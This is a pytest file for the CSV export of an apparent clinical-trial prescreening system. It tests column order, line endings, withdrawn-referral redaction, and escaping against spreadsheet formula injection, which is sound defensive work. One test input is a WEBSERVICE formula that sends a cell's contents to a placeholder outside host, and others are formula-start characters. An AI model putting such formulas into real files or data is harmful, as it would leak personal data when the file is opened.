import csv
import io
import re
import unicodedata
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from prescreen.export.columns.table import COLUMNS, HEADER, IDENTITY, chosen
from prescreen.export.csv import LAST_WORDS, csv_chunks, safe
from prescreen.workflow.export.referral_rows import ReferralRow
from prescreen.workflow.participants.submission import Contact
from tests.export.exported import ROW, WITHDRAWN, as_typed


def read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def csv_lines(rows: list[ReferralRow]) -> list[str]:
    """Return the file line by line."""
    return [chunk.data.decode() for chunk in csv_chunks(([row] for row in rows), HEADER)]


def test_a_row_reads_back_with_its_columns() -> None:
    (read_back,) = read("".join(csv_lines([ROW])))
    assert tuple(read_back) == HEADER
    assert read_back["site_name"] == "Leeds, General"
    assert read_back["phone"] == "'+1 617 555 0100"
    assert read_back["channels"] == "email; phone"
    assert read_back["findings"] == "adult=permits; fever=unknown"
    assert read_back["answers"] == (
        "age=44; height=170.18; fevers_a_year=1/3; pregnancy=neither; low_back_pain=yes; surgery=no; "
        "medicines=nsaid+opioid; devices=none; fever=do_not_know; weight=rather_not_say; "
        "last_dose=2026-03-27; onset=2026-03"
    )


def test_lines_end_as_rfc_4180_says() -> None:
    assert [line[-2:] for line in csv_lines([ROW])] == ["\r\n", "\r\n"]


def test_a_withdrawn_referral_shows_what_stays_and_nothing_else_even_where_it_was_read() -> None:
    (row,) = read("".join(csv_lines([WITHDRAWN])))

    stays = {column.name for column in COLUMNS if column.stays}
    assert {name for name, cell in row.items() if cell} <= stays
    assert stays == {
        *("reference", "referral_id", "trial_id", "site_id", "site_name", "state", "determination", "created_at"),
        *("is_test", "state_changed_at"),
    }


def test_the_columns_of_before_come_first() -> None:
    assert HEADER[:15] == (
        *("reference", "referral_id", "trial_id", "site_id", "site_name", "state", "determination", "created_at"),
        *("is_test", "name", "email", "phone", "postal_code", "best_time", "language"),
    )
    assert HEADER[15:20] == ("channels", "findings", "answers", "consents", "consent_given_by")


def test_columns_come_in_their_own_order_with_the_id_and_without_strangers() -> None:
    assert chosen(["state", "name", "nonsense", "reference"], with_identity=True) == (
        *("reference", "referral_id", "state", "name"),
    )
    assert chosen(HEADER, with_identity=False) == tuple(name for name in HEADER if name not in IDENTITY)


def test_readers_refuse_a_file_that_ends_in_the_last_words() -> None:
    stopped = "".join(csv_lines([ROW])) + LAST_WORDS.decode()

    with pytest.raises(csv.Error):
        list(csv.reader(io.StringIO(stopped, newline=""), strict=True))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
@pytest.mark.parametrize("before", ["", "  "])
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(start: str, before: str) -> None:
    assert safe(f"{before}{start}1+1") == f"'{before}{start}1+1"


@pytest.mark.parametrize(
    ("text", "guarded"),
    [
        ("Zed;=1+1;", "Zed;'=1+1;"),
        ('a;=WEBSERVICE("http://x.example/"&B2);', 'a;\'=WEBSERVICE("http://x.example/"&B2);'),
        ("a; b;  =1+1", "a; b;'  =1+1"),
        ('a;"=1+1"', 'a;\'"=1+1"'),
        ("a;\uff1d1", "a;'\uff1d1"),
        ("a\uff1b=1", "a\uff1b'=1"),
        ("a, @b", "a,' @b"),
        ("a|-1|+1", "a|'-1|'+1"),
        ("a\t=1", "a\t'=1"),
        ("a\r\n\n=1", "a\r\n\n'=1"),
        ("=1;=1", "'=1;'=1"),
        ('"=1"', '\'"=1"'),
        ("\u00a0=1", "'\u00a0=1"),
        ("'=1;'=1", "''=1;''=1"),
    ],
)
def test_what_would_run_behind_any_separator_gets_an_apostrophe_too(text: str, guarded: str) -> None:
    assert safe(text) == guarded
    assert as_typed(guarded) == text


@pytest.mark.parametrize(
    "text",
    [
        "",
        "Ann",
        "O'Brien",
        "1-2",
        "a=b",
        "'quoted",
        "Zoë",
        "a; b",
        "a, b\n\nc",
        "age=44; x=-1",
        "a;'",
        "a; '=1",
        "a\tb",
    ],
)
def test_harmless_text_is_left_alone(text: str) -> None:
    assert safe(text) == text


HOSTILE = st.text(alphabet=st.one_of(st.sampled_from("=+-@\t\r\n\0 ,;|\"'"), st.characters(codec="utf-8")), max_size=30)


@given(HOSTILE, HOSTILE)
def test_no_cell_of_any_person_starts_a_formula_at_whatever_sign_lines_are_split(name: str, best_time: str) -> None:
    contact = Contact(name, "a@example.org", None, None, best_time, "en")

    text = "".join(csv_lines([replace(ROW, contact=contact)]))

    (row,) = read(text)
    assert [cell for cell in row.values() if begins_formula(cell)] == []
    assert [cell for cell in re.split("[,;|\t\r\n]", text) if begins_formula(cell, among="=+-@")] == []
    assert (as_typed(row["name"]), as_typed(row["best_time"])) == (name, best_time)


def begins_formula(cell: str, *, among: str = "=+-@\t\r\n\0") -> bool:
    """Return whether a cell begins with one of these signs, or one that folds to it, behind blanks and quotes."""
    return unicodedata.normalize("NFKC", cell.lstrip(' "\u00a0\u200b')[:1])[:1] in {*among}
